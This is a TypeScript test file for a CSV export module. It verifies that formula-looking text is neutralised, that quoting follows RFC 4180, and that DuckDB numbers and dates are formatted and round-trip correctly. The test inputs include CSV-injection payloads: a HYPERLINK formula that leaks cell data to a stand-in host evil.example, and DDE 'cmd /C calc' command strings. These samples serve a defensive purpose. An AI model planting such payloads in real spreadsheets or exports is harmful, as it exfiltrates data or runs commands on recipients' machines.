/**
 * src/lib/download/csv.ts: formula-looking text is neutralised, numbers, dates and phone numbers
 * never are; quoting is RFC 4180; the text parses back to exactly what was written.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  BOM,
  csvFromColumns,
  csvHeader,
  csvRows,
  FORMULA_TRIGGERS,
  formatCell,
  formatDateValue,
  formatNumberValue,
  formatTimestampValue,
  kindOfDuckDbType,
  kindOfValues,
  looksLikeFormula,
  neutraliseText,
  quoteField,
  toCsv,
  type CsvColumn,
} from '../../src/lib/download/csv';

const parse = (text: string): string[][] =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { header: false, skipEmptyLines: true }).data;

describe('neutralising formula-looking text', () => {
  it.each([
    ['=1+2', "'=1+2"],
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
    ],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    // Issue 14.2: what the first neutraliser missed.
    [' =1+2', "' =1+2"],
    ['   +1', "'   +1"],
    ['\n=1+1', "'\n=1+1"],
    ['\u00A0=1+1', "'\u00A0=1+1"],
    ['\u200B=1+1', "'\u200B=1+1"],
    ['\uFEFF=1+1', "'\uFEFF=1+1"],
    ['\u3000@SUM(1)', "'\u3000@SUM(1)"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0BSUM(A1)', "'\uFF0BSUM(A1)"],
    ['\uFF0D2+3', "'\uFF0D2+3"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    ["|cmd '/C calc'!A0", "'|cmd '/C calc'!A0"],
  ])('prefixes %j', (input, output) => {
    expect(looksLikeFormula(input)).toBe(true);
    expect(neutraliseText(input)).toBe(output);
  });

  it.each([
    'Columbus',
    "Lee's Summit",
    '',
    ' Austin',
    '\u00A0Austin',
    'a=b',
    'a|b',
    '１２３',
    '5125550100',
    '0000000000',
    "'=already",
    'São Paulo',
    '東京',
  ])('leaves %j alone', (input) => {
    expect(looksLikeFormula(input)).toBe(false);
    expect(neutraliseText(input)).toBe(input);
  });

  it('covers exactly the documented triggers', () => {
    expect([...FORMULA_TRIGGERS].sort()).toEqual(
      ['\t', '\r', '\n', '+', '-', '=', '@', '|', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'].sort(),
    );
  });

  it('applies to text columns only: a number column is never altered', () => {
    for (const n of [-1, -0.5, -1234567, 0, 42, 1.25, -3e-7]) {
      const cell = formatCell(n, 'number');
      expect(cell).not.toMatch(/^'/);
      expect(Number(cell)).toBe(n);
    }
    // A numeric column that arrives as text (a DECIMAL as a string) is still a number column.
    expect(formatCell('-12.50', 'number')).toBe('-12.50');
    expect(formatCell(-5n, 'number')).toBe('-5');
    // The same characters in a text column are neutralised.
    expect(formatCell('-12.50', 'text')).toBe("'-12.50");
  });

  it('leaves phone numbers (digits) intact, and counts what it changed', () => {
    const stats = { neutralised: 0 };
    expect(formatCell('8005550100', 'text', { stats })).toBe('8005550100');
    expect(formatCell('=1', 'text', { stats })).toBe("'=1");
    expect(formatCell('@x', 'text', { stats })).toBe("'@x");
    expect(stats.neutralised).toBe(2);
  });

  it('can be switched off for code', () => {
    expect(formatCell('=1+2', 'text', { neutralise: false })).toBe('=1+2');
    expect(formatCell('-2,3', 'text', { neutralise: false })).toBe('"-2,3"');
  });

  it('never neutralises booleans, dates or timestamps', () => {
    expect(formatCell(true, 'boolean')).toBe('true');
    expect(formatCell(false, 'boolean')).toBe('false');
    expect(formatCell(Date.UTC(2026, 0, 2), 'date')).toBe('2026-01-02');
    expect(formatCell(Date.UTC(2026, 0, 2, 3, 4, 5), 'timestamp')).toBe('2026-01-02 03:04:05');
  });
});

describe('values as DuckDB writes them', () => {
  it('prints numbers in full or shortest form', () => {
    expect(formatNumberValue(104107)).toBe('104107');
    expect(formatNumberValue(1e20)).toBe('100000000000000000000');
    expect(formatNumberValue(0.6667)).toBe('0.6667');
    expect(formatNumberValue(-0.25)).toBe('-0.25');
    expect(formatNumberValue(Number.NaN)).toBe('nan');
    expect(formatNumberValue(Number.POSITIVE_INFINITY)).toBe('inf');
    expect(formatNumberValue(Number.NEGATIVE_INFINITY)).toBe('-inf');
    expect(formatNumberValue(12345678901234567890n)).toBe('12345678901234567890');
  });

  it('prints dates and timestamps in UTC, with milliseconds only when there are some', () => {
    expect(formatDateValue(Date.UTC(1999, 11, 31))).toBe('1999-12-31');
    expect(formatTimestampValue(Date.UTC(2025, 9, 1, 23, 59, 59))).toBe('2025-10-01 23:59:59');
    expect(formatTimestampValue(Date.UTC(2025, 9, 1, 0, 0, 0, 7))).toBe('2025-10-01 00:00:00.007');
    expect(formatTimestampValue(new Date(Date.UTC(2026, 1, 28, 12)))).toBe('2026-02-28 12:00:00');
  });

  it('keeps NULL and the empty string apart', () => {
    expect(formatCell(null, 'text')).toBe('');
    expect(formatCell(undefined, 'number')).toBe('');
    expect(formatCell('', 'text')).toBe('""');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(quoteField('plain')).toBe('plain');
    expect(quoteField('a,b')).toBe('"a,b"');
    expect(quoteField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteField('two\nlines')).toBe('"two\nlines"');
    expect(quoteField('cr\r\nlf')).toBe('"cr\r\nlf"');
    expect(formatCell('=A1,"x"', 'text')).toBe(`"'=A1,""x"""`);
  });
});

describe('documents', () => {
  const columns: CsvColumn[] = [
    { name: 'created_at', kind: 'timestamp' },
    { name: 'city', kind: 'text' },
    { name: 'caller_number', kind: 'text' },
    { name: 'source_line', kind: 'number' },
    { name: 'robocall', kind: 'boolean' },
  ];
  const rows = [
    [Date.UTC(2026, 0, 2, 3, 4, 5), '=HYPERLINK("x")', '8005550100', 12, true],
    [Date.UTC(2026, 0, 3), 'Winston-Salem, NC', '+18005550100', -7, null],
    [Date.UTC(2026, 0, 4), '', null, 0, false],
    [Date.UTC(2026, 0, 5), 'multi\r\nline "quoted"', '@x', 3.5, true],
  ];

  it('writes a header (with the BOM when asked) and CRLF lines', () => {
    expect(csvHeader(columns)).toBe('created_at,city,caller_number,source_line,robocall\r\n');
    expect(csvHeader(columns, { bom: true }).startsWith(BOM)).toBe(true);
    expect(csvHeader([{ name: '=evil', kind: 'number' }])).toBe("'=evil\r\n");
    const body = csvRows(columns, rows);
    expect(body.endsWith('\r\n')).toBe(true);
  });

  it('gives the same text column-major and row-major', () => {
    const byColumn = columns.map((_, c) => rows.map((r) => r[c]));
    expect(csvFromColumns(columns, byColumn, rows.length)).toBe(csvRows(columns, rows));
    expect(
      csvFromColumns(
        columns,
        columns.map(() => []),
        0,
      ),
    ).toBe('');
    expect(() => csvFromColumns(columns, [[]], 0)).toThrow(/columns/);
  });

  it('parses back to the values, text neutralised and numbers untouched', () => {
    const parsed = parse(
      toCsv(
        columns,
        rows.map((r) => Object.fromEntries(columns.map((c, i) => [c.name, r[i]]))),
        { bom: true },
      ),
    );
    expect(parsed).toEqual([
      ['created_at', 'city', 'caller_number', 'source_line', 'robocall'],
      ['2026-01-02 03:04:05', `'=HYPERLINK("x")`, '8005550100', '12', 'true'],
      ['2026-01-03 00:00:00', 'Winston-Salem, NC', "'+18005550100", '-7', ''],
      ['2026-01-04 00:00:00', '', '', '0', 'false'],
      ['2026-01-05 00:00:00', 'multi\r\nline "quoted"', "'@x", '3.5', 'true'],
    ]);
  });

  it('round-trips arbitrary text: what comes back is the text, or the text after an apostrophe', () => {
    const alphabet = [
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '"',
      ',',
      "'",
      ' ',
      'a',
      'Z',
      '0',
      '9',
      'é',
      '—',
      '😀',
    ];
    let seed = 1;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const texts: string[] = [];
    for (let i = 0; i < 500; i++) {
      const length = 1 + Math.floor(random() * 8);
      let t = '';
      for (let j = 0; j < length; j++) t += alphabet[Math.floor(random() * alphabet.length)];
      texts.push(t);
    }
    const cols: CsvColumn[] = [
      { name: 'text', kind: 'text' },
      { name: 'n', kind: 'number' },
    ];
    const text =
      csvHeader(cols) +
      csvRows(
        cols,
        texts.map((t, i) => [t, -i]),
      );
    const parsed = Papa.parse<string[]>(text, { header: false, newline: '\r\n' }).data.filter(
      (r) => r.length > 1,
    );
    expect(parsed.slice(1)).toEqual(
      texts.map((t, i) => [looksLikeFormula(t) ? `'${t}` : t, String(-i)]),
    );
  });
});

describe('column kinds', () => {
  it('reads DuckDB type names', () => {
    expect(kindOfDuckDbType('BIGINT')).toBe('number');
    expect(kindOfDuckDbType('DECIMAL(18,3)')).toBe('number');
    expect(kindOfDuckDbType('double')).toBe('number');
    expect(kindOfDuckDbType('BOOLEAN')).toBe('boolean');
    expect(kindOfDuckDbType('DATE')).toBe('date');
    expect(kindOfDuckDbType('TIMESTAMP')).toBe('timestamp');
    expect(kindOfDuckDbType('TIMESTAMP WITH TIME ZONE')).toBe('timestamp');
    expect(kindOfDuckDbType('VARCHAR')).toBe('text');
    expect(kindOfDuckDbType('INTERVAL')).toBe('text');
  });

  it('guesses from values when no type is known', () => {
    expect(kindOfValues([1, null, -2])).toBe('number');
    expect(kindOfValues([true, false])).toBe('boolean');
    expect(kindOfValues(['1', 2])).toBe('text');
    expect(kindOfValues([null])).toBe('text');
  });
});
